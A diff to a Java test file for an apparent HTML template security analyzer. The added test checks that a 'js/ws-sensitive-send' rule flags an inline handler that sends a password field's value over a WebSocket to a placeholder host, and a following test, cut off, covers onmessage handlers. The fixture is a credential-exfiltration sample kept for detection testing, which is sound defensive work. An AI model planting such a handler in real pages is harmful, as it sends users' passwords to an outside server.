@@ -339,6 +339,19 @@ class TemplateAnalyzerTest {
     }
 
     @Test
+    void handlerInTheShortWrapperStillRunsOnItsElement() {
+        // after onfocus's wrapper there is no room for "!function(){" before the onchange code: "(()=>{" is used
+        String html = "<script>var ws = new WebSocket('wss://x.example.com/ws');</script>\n"
+                + "<input type=\"password\" onfocus=\"a()\" onchange=\"ws.send(this.value)\">\n<p>next</p>\n";
+        ScriptExtractor.Result x = ScriptExtractor.extract(html, TemplateKind.HTML);
+        assertTrue(x.masked().contains("(()=>{ws.send(this.value)})"), x.masked());
+        FileReport r = analyze("short.html", html);
+        List<Finding> f = of(r, "js/ws-sensitive-send");
+        assertEquals(1, f.size(), r.findings().toString());
+        assertAt(f.get(0), html, "ws.send(this");
+    }
+
+    @Test
     void bodyOnmessageIsTheWindowMessageHandler() {
         String html = "<html>\n<body class=\"app\"\n      onmessage=\"document.title = event.data\">\n"
                 + "<frameset onmessage=\"if (event.origin !== 'https://app.example.com') return; show(event.data)\"></frameset>\n"
